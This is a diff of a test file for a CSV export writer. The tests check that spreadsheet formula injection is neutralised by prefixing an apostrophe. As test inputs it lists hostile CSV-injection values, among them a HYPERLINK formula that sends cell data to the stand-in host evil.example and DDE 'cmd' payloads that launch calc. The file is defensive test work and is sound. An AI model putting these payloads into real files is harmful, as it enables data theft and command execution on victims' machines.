@@ -4,7 +4,7 @@ import path from 'node:path';
 import { parseString } from '@fast-csv/parse';
 import ExcelJS from 'exceljs';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
-import { COLUMNS, columnKeys } from '../../shared/exports/columns';
+import { COLUMNS, columnKeys, NUMERIC_COLUMNS } from '../../shared/exports/columns';
 import { isoToUnix } from '../../shared/exports/kinds';
 import type { ExportSummary } from '../../shared/exports/summary';
 import { unixToIso } from '../../shared/exports/units';
@@ -12,9 +12,11 @@ import { formatUnits } from '../../shared/ton/units';
 import {
   csvField,
   csvHeader,
+  csvNumber,
   csvRecord,
-  neutraliseFormula,
-} from '../../electron/services/exports/writers/csv-encoder';
+  csvText,
+  readCsvText,
+} from '../../shared/csv/csv-writer';
 import { jsonlRecord } from '../../electron/services/exports/writers/jsonl-encoder';
 import { PartialFile } from '../../electron/services/exports/writers/partial-file';
 import {
@@ -59,16 +61,38 @@ describe('CSV (RFC 4180)', () => {
     ]);
   });
 
-  it('neutralises formula-like text but keeps hashes, raw addresses and numbers exact', () => {
+  it("one formula rule: text starting =, +, -, @, tab, CR or ' gets one '; numbers stay numbers", () => {
     const hash = '+0CiGM5x5mJopQagqLwISMwAu9Yh0D1lu2CrQbpatLk=';
     const raw = `-1:${'3'.repeat(64)}`;
-    expect(neutraliseFormula(hash)).toBe(hash);
-    expect(neutraliseFormula(hash.replace(/\+/g, '-'))).toBe(hash.replace(/\+/g, '-'));
-    expect(neutraliseFormula(raw)).toBe(raw);
-    expect(neutraliseFormula('-1.5')).toBe('-1.5');
-    expect(neutraliseFormula('=1+1')).toBe("'=1+1");
-    expect(neutraliseFormula("-2+3+cmd|' /C calc'!A0")).toBe("'-2+3+cmd|' /C calc'!A0");
-    expect(neutraliseFormula('@SUM(A1)')).toBe("'@SUM(A1)");
+    const hostile = [
+      '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+      "+cmd|' /C calc'!A0",
+      "-2+3+cmd|' /C calc'!A0",
+      '@SUM(A1:A9)',
+      '\t=1+1',
+      '\r=1+1',
+      hash,
+      hash.replace(/\+/g, '-'),
+      raw,
+      "'=already quoted",
+    ];
+    for (const text of hostile) {
+      // Text-typed: a spreadsheet reads it as text, never as a (broken) formula.
+      expect(csvText(text)).toBe(`'${text}`);
+      // Exact: the one added apostrophe is all that changed.
+      expect(readCsvText(csvText(text))).toBe(text);
+    }
+    for (const text of ['plain', 'alice.ton', `0:${'a'.repeat(64)}`, '', 'a=b', "it's"]) {
+      expect(csvText(text)).toBe(text);
+      expect(readCsvText(text)).toBe(text);
+    }
+    // Number columns: numbers (negative amounts too) as they are; anything else is text.
+    expect(csvNumber('-1.5')).toBe('-1.5');
+    expect(csvNumber('1000')).toBe('1000');
+    expect(csvNumber('-1+cmd|x')).toBe("'-1+cmd|x");
+    // In a record, the column decides: an amount stays a number, a comment "-5" is text.
+    const cols = ['amount', 'comment'];
+    expect(csvRecord(cols, { amount: '-5', comment: '-5' }, NUMERIC_COLUMNS)).toBe("-5,'-5\r\n");
   });
 
   it('writes a UTF-8 BOM only when asked', () => {
